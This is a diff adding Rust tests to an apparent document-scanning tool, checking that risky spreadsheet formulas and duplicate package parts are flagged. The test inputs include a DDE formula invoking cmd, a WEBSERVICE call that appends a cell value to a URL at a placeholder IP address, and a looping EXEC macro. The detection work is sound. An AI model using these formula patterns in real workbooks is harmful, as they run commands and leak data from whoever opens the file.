@@ -357,3 +357,27 @@ fn macro_sheets_of_binary_workbooks_are_decompiled() {
         said.children.iter().map(|child| String::from_utf8_lossy(&child.bytes).into_owned()).collect();
     assert!(text.iter().any(|text| text.contains("A1: =EXEC(\"a\"&CHAR(66))\nA2: =GOTO(A1)\n")), "{text:?}");
 }
+
+#[test]
+fn formulas_that_reach_out_are_said() {
+    let formula = |text: &str| {
+        let sheet =
+            format!("<worksheet><row><c r='A1'><f>{text}</f><v>0</v></c><c t='str'><v>a|b!c</v></c></row></worksheet>");
+        findings(&say(&Package::xlsx("a").part("xl/worksheets/sheet1.xml", "", sheet)))
+    };
+    assert_eq!(formula("cmd|'/c none'!A1"), [("dde-link", "high")]);
+    assert_eq!(formula("_xlfn.WEBSERVICE(\"http://192.0.2.9/?\"&amp;A1)"), [("workbook-fetches-data", "medium")]);
+    assert_eq!(formula("_xlfn.WEBSERVICE(\"https://example.com/rate\")"), [("workbook-fetches-data", "low")]);
+    assert_eq!(formula("SUM(A1:A3)"), []);
+    assert_eq!(formula("CONCATENATE(A1,\"a | b\")"), []);
+}
+
+#[test]
+fn parts_of_one_name_are_said() {
+    let twice = |second: &str| {
+        let package = Package::docx("t").part("word/footer1.xml", "", "<a/>").part("WORD\\footer1.xml", "", second);
+        findings(&say(&package))
+    };
+    assert_eq!(twice("<b/>"), [("package-part-twice", "low")]);
+    assert_eq!(twice("<a/>"), []);
+}
